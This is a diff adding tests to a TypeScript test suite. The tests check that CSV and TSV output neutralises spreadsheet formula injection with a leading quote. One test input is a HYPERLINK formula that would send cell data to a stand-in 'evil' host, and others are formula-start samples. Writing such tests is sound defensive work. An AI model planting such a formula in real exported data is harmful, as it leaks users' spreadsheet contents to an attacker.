@@ -47,6 +47,41 @@ describe('record output', () => {
     expect(await render('tsv', [{ a: 'x\ty', b: 'l1\nl2' }])).toBe('a\tb\nx\\ty\tl1\\nl2\n');
   });
 
+  describe('cells a spreadsheet would run as formulas', () => {
+    const keys = ['=HYPERLINK("http://evil/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=cmd', '\r=cmd', '\uFF1D1+1', 'safe.txt', 'a=b'];
+    it.each(['csv', 'tsv'] as const)('%s: every formula start gets a leading quote; other text is untouched', async (format) => {
+      const lines = (
+        await render(
+          format,
+          keys.map((Key) => ({ Key })),
+        )
+      )
+        .split('\n')
+        .slice(1, -1);
+      const unescaped = (line: string) =>
+        format === 'csv' ? line.replace(/^"([\s\S]*)"$/, '$1').replace(/""/g, '"') : line.replace(/\\t/g, '\t').replace(/\\r/g, '\r');
+      expect(lines.map(unescaped)).toEqual([
+        `'=HYPERLINK("http://evil/?"&A1)`,
+        `'+1+1`,
+        `'-2+3`,
+        `'@SUM(A1:A9)`,
+        `'\t=cmd`,
+        `'\r=cmd`,
+        `'\uFF1D1+1`,
+        'safe.txt',
+        'a=b',
+      ]);
+    });
+    it('numbers, dates and nested values are not text cells and stay as they are', async () => {
+      expect(await render('csv', [{ n: -5, d: new Date('2024-01-01T00:00:00Z'), o: ['-x'] }])).toBe(
+        'n,d,o\n-5,2024-01-01T00:00:00.000Z,"[""-x""]"\n',
+      );
+    });
+    it('JSON output keeps the exact text', async () => {
+      expect(JSON.parse(await render('nl', [{ Key: '=1+1' }]))).toEqual({ Key: '=1+1' });
+    });
+  });
+
   it('uses the given columns for CSV even when a record lacks some', async () => {
     expect(await render('csv', [{ B: 1 }], ['A', 'B'])).toBe('A,B\n,1\n');
   });
